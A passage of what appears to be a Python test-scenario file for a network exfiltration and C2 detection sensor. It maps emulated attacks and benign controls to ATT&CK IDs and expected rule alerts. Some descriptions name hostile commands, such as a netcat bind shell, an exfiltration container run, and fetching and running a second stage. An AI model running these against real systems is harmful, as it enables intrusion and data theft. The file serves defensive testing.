            "cw-decoy-tls-hello",
            "T1048.001",
            ("SL-EXF-002",),
            "600 KB of ciphertext streamed raw to port 443 while decoy connections to the same port open "
            "with a TLS record header",
            _cw_decoy_tls,
        ),
    )
)

# One twin per container-mode attack: (name, twin of, ATT&CK, must raise, what, run, blind spot).
# The socket twins run after cw-docker-socket-sibling, which must raise SL-C2-007/009 first.
TWINS: tuple[Scenario, ...] = tuple(
    Scenario(name, attack, expect, description, fn, blind_spot=blind, compromised=True, twin=twin)
    for name, twin, attack, expect, description, fn, blind in (
        (
            "cw-seed-mounted-data",
            "seed-openssl-https",
            "T1048.001",
            ("SL-EXF-002", "SL-EXF-004"),
            "the web app's mounted customer database, brought encrypted, streamed raw to port 443 (no TLS tool)",
            _cw_seed,
            False,
        ),
        (
            "cw-raw-tcp",
            "encrypted-raw-tcp",
            "T1048.001",
            ("SL-EXF-002",),
            "800 KB of ciphertext over raw TCP to port 9000 of a host the web app knows on other ports",
            _cw_raw,
            False,
        ),
        (
            "cw-http-post",
            "encrypted-http-post",
            "T1048.001",
            ("SL-EXF-003",),
            "70 KB of ciphertext as the body of a plain-HTTP POST to port 80",
            _cw_http,
            False,
        ),
        (
            "cw-dns-tunnel",
            "dns-tunnel",
            "T1048.001",
            ("SL-EXF-003",),
            "1.2 KB of ciphertext hex-encoded into DNS query names (busybox nslookup, port 53)",
            _cw_dns_tunnel,
            False,
        ),
        (
            "cw-volume-spike",
            "encrypted-volume-spike",
            "T1048.001",
            ("SL-EXF-001",),
            "3 MB of ciphertext as a base64 image upload to the web app's learned endpoint: only the volume is unusual",
            _cw_spike,
            False,
        ),
        (
            "cw-new-destination",
            "encrypted-new-destination",
            "T1048.001",
            ("SL-EXF-004",),
            "1.2 MB of ciphertext in the web app's own upload shape (base64 image JSON) to a host it never used",
            _cw_new_dest,
            False,
        ),
        (
            "cw-slow-exfil",
            "slow-exfil",
            "T1048.001",
            (),
            "12 KB of ciphertext trickled over one connection in 12 s: the blind spot, from inside",
            _cw_slow,
            True,
        ),
        (
            "cw-multi-stage-c2",
            "multi-stage-c2",
            "T1104",
            ("SL-C2-001", "SL-C2-002"),
            "wget a second stage into /tmp, run it; it beacons to a second host",
            _cw_multistage,
            False,
        ),
        (
            "cw-inter-container-pivot",
            "inter-container-pivot",
            "T1104",
            ("SL-C2-003",),
            "the web app connects to an internal db container it never talked to and sends 200 KB",
            _cw_pivot,
            False,
        ),
        (
            "cw-docker-socket-sibling",
            "docker-socket-sibling",
            "T1610",
            ("SL-C2-007", "SL-C2-009"),
            "through the web app's mounted Docker socket (perl, no CLI): a sibling in its network namespace "
            "that exfiltrates 600 KB",
            _cw_docker_sibling,
            False,
        ),
        (
            "cw-lifecycle-burst",
            "lifecycle-burst",
            "T1104",
            ("SL-C2-004",),
            "through the Docker socket: 7 short worker containers, one sends to a new host",
            _cw_burst,
            False,
        ),
        (
            "cw-c2-server-ephemeral",
            "c2-server-ephemeral",
            "T1104",
            ("SL-C2-005", "SL-C2-006"),
            "through the Docker socket: an ephemeral C2 server in the web app's network namespace on 8443; "
            "the sink connects",
            _cw_c2_server,
            False,
        ),
        (
            "cw-bind-shell",
            "bind-shell-in-workload",
            "T1104",
            ("SL-C2-005", "SL-C2-006"),
            "a bind shell on 4445 in the web app (nc -l -e sh); the sink uses it",
            _cw_bind_shell,
            False,
        ),
        (
            "cw-kubernetes-api",
            "kubernetes-api-from-container",
            "T1609",
            ("SL-C2-008",),
            "the intruder asks the API server address for secrets with a bearer token",
            _cw_k8s_api,
            False,
        ),
    )
)

SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        "seed-openssl-https",
        "T1048.001",
        ("SL-EXF-005", "SL-EXF-006"),
        "the seed's `docker run --rm -v /data:/mnt/data my-exfil-container`: openssl enc of a mounted "
        "file, POSTed over HTTPS",
        _seed,
    ),
    Scenario(
        "encrypted-raw-tcp",
        "T1048.001",
        ("SL-EXF-002",),
        "a known workload streams openssl-encrypted bytes over raw TCP to port 9000",
        _raw,
    ),
    Scenario(
        "encrypted-http-post", "T1048.001", ("SL-EXF-003",), "an encrypted file as the body of a plain-HTTP POST", _http
    ),
    Scenario("dns-tunnel", "T1048.001", ("SL-EXF-003",), "encrypted data, hex-encoded into DNS query names", _dns),
    Scenario(
        "encrypted-volume-spike",
        "T1048.001",
        ("SL-EXF-001",),
        "a known API client sends 3 MB over its usual HTTPS destination: only the volume is unusual",
        _spike,
    ),
    Scenario(
        "encrypted-new-destination",
        "T1048.001",
        ("SL-EXF-004",),
        "a known API client sends 1.2 MB over HTTPS to a host it never talked to",
        _new_dest,
    ),
    Scenario(
        "slow-exfil",
        "T1048.001",
        (),
        "12 KB trickled over one connection in 12 s: the strategy's stated blind spot",
        _slow,
        blind_spot=True,
    ),
    Scenario(
        "multi-stage-c2",
        "T1104",
        ("SL-C2-001", "SL-C2-002"),
        "fetch a second stage over HTTP into /tmp, run it, it beacons to a second host",
        _multistage,
    ),
    Scenario(
        "inter-container-pivot",
        "T1104",
        ("SL-C2-003",),
        "a known API client connects to another container it never talked to",
        _pivot,
    ),
    Scenario(
        "lifecycle-burst",
        "T1104",
        ("SL-C2-004",),
        "a burst of short container lifecycles, one of them sending to a new host",
        _burst,
    ),
    Scenario(
        "c2-server-ephemeral",
        "T1104",
        ("SL-C2-005", "SL-C2-006"),
        "a never-seen container listens on 8443 and the sink (outside) connects to it, then it exits",
        _c2_server,
    ),
    Scenario(
        "bind-shell-in-workload",
        "T1104",
        ("SL-C2-005", "SL-C2-006"),
        "a running, learned web service gets a bind shell on 4445 (docker exec nc -l -e sh); the sink uses it",
        _bind_shell,
    ),
    Scenario(
        "docker-socket-sibling",
        "T1610",
        ("SL-C2-007", "SL-C2-009"),
        "a container with the Docker socket mounted starts a sibling container that exfiltrates encrypted data",
        _docker_sibling,
    ),
    Scenario(
        "kubernetes-api-from-container",
        "T1609",
        ("SL-C2-008",),
        "a learned API client connects to the address configured as the Kubernetes API server",
        _k8s_api,
    ),
    Scenario(
        "benign-encrypted-backup",
        "benign",
        (),
        "the nightly backup job: 400 KB encrypted over HTTPS to the allowed vault",
        _b_backup,
    ),
    Scenario("benign-compressed-logs", "benign", (), "gzip-compressed logs POSTed over HTTP, as learned", _b_logs),
    Scenario("benign-https-api", "benign", (), "steady small HTTPS API calls, as learned", _b_api),
    Scenario("benign-plaintext-logs", "benign", (), "plain-text log shipping over TCP, as learned", _b_text),
    Scenario(
        "benign-service-moved",
        "benign",
        (),
        f"the API client's partner service ({SERVICE}) now resolves to another address block",
        _b_moved,
    ),
    Scenario("benign-web-service", "benign", (), "the learned web service takes its usual outside clients", _b_web),
    Scenario("benign-ci-runner", "benign", (), "the learned CI runner starts its job containers via the socket", _b_ci),
    *COMPROMISED,
    *TWINS,
)

BY_NAME = {s.name: s for s in SCENARIOS}

LAB_CONFIG = """
[output]
events = {events}

[sensor]
window_seconds = 1.0
health_interval_seconds = 30.0
control_socket = "{ctl}"
# the lab's own containment file: never the production sensor's
containment_state = "{containment}"

[runtime]
docker_socket = "{docker}"

[detection]
min_baseline_windows = 5
suppress_seconds = 600.0

[rules.SL-EXF-001]
min_bytes = 262144

[rules.SL-EXF-004]
min_bytes = 262144

[rules.SL-C2-008]
api_servers = ["K8S_API"]

[[allow]]
workload = "sluice-emu/backup-agent"
destination = "{vault}/32"
comment = "lab: the backup vault"
"""
LAB_CONFIG = LAB_CONFIG.replace("K8S_API", f"{K8S_API[0]}:{K8S_API[1]}")
